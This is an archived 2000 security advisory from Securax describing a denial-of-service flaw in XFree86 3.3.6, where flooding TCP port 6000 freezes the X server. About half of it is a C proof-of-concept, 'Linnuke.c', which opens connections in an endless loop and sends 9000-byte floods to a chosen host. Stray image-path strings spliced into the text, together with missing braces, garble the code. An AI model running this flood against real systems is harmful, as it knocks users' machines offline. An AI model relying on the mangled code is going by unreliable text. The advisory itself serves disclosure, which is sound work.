Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Linux :: General :: sax11.txt

X-windows can be caused to freeze

Securax-SA-11                                               Security
Topic:          X-windows can be caused to freeze.
Announced:      2000-12-26
Affects:        XFree86 Version 3.3.6 / X Window System [on SuSE 6.4]
                Other versions not tested.

Note: This  entire  advisory has been based upon trial and error results. We
      can not ensure the information below is 100% correct being that we have
      no  source  code  to audit.  This document is subject to change without
      prior notice.

      If you happen to find more information or problems concerning the
      below problem  or  further  varients please contact me on the
      following email (or, or you cancontact  the securax

I.  Problem Description

When a large amount of characters are send to the X-windows deamon (port
6000), X-windows  will become laggy  for a few  secondes, so if one
would send a lot of characters to it, in a  continious loop, the server
will  freeze!, the only thing that works as far as I know to get X back
to work is a reboot.

II. Impact

X-windows servers can be caused to be laggy and even to freeze, the code
in this advisory is proof of concept code for this DoS.

/* --| BOF |-- */

/* Linnuke.c (DoS)
 * written by R00T-dude
 * first of all, why the lame name
 * remember in the "good old days" the winnuke.c
 * well this gives about the same effect on linux
 * and probably any other form of unix that has
 * X-windows port (6000) open.
 * I found this when I was playing around with
 * this stresstool I was coding, I noticed my
 * X-win becamepretty laggy when I sended 9000 A's
 * to port 6000, so I started coding on some
 * easy poc code for X-win and well, euh, ...
 * X-win FROZE !!!, so far all you can do to
 * get X to work again is reboot.
 * In no way, form or shape can I nor the securax crew
 * be held responsible for any use and/or misuse of this
 * code.
 * greetz to: |ncubus, f0bic, F_F, nostalg1c, |vorlon, cicer0,
 * t-omicron, [tosh], demongirl, zym0t1c,segfau|t, so many others I forgot

#include <stdio.h>
#include <sys/socket.h>
#include <netdb.h>
#include <netinet/in.h>
#include <string.h>

main(int argc, char **argv)
 int sock, conn, i, b;
 char buff[10000];
 struct sockaddr_in sin;
 struct hostent *hp;

 for(i=0; i<9000; i++)strcat(buff, "\x41");  /* SHELLCODE ?? :) */
 strcat(buff, "\n");

 if( (hp=gethostbyname(argv[1])) == NULL)
  fprintf(stderr, "Gethostbyname() !"); exit(0);

 for(b=0; b < b +1; b++)
  sock = socket(AF_INET, SOCK_STREAM, 0);
  if (sock < 0)
   fprintf(stderr, "Socket() !\n");  exit(sock);
  sin.sin_family = AF_INET;
  sin.sin_port = 6000;
  sin.sin_addr.s_addr = inet_addr(argv[1]);

  conn = connect(sock, (struct sockaddr *)&sin, sizeof(sin));if (conn < 0)
   printf("Connect() !\n");
   /* don't exit(); or the loop will stop */

  send(sock, buff, sizeof(buff), 0);

/* --| EOF |-- */

III. possible workarounds

possible workarounds :: - don't use X, who needs it anyway
   - close the X-win port
   - filter the X-win port with a decent firewall
     (however, you can still be Dossed (local))
   - use windows (euh, nevermind)

IV credits

thx go out to : Incubus for testing
greetz go out to :|ncubus, f0bic, F_F, nostalg1c, |vorlon, cicer0,
                  [tosh], demongirl, zym0t1c,segfau|t, so many others I

-R00T-dude( or
For more information

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 orbetter).
Site design & layout copyright © 1986-2015 AOH